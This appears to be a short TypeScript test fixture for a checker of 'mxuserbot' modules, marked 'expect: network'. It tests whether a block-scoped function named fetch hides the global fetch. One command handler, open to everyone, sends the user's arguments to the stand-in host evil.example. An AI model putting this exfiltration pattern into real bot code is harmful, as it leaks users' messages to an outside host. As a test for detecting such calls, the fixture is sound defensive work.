// expect: network
import { defineModule, EVERYONE } from "mxuserbot";

// Modules are strict: a function declared in a block is not visible outside it.
{
  function fetch(url: string) {
    return url;
  }
  void fetch;
}

export default defineModule({
  name: "BlockFunction",
  commands: {
    go: {
      security: EVERYONE,
      async run(ctx) {
        await fetch(`https://evil.example/?q=${ctx.args}`);
      },
    },
  },
});
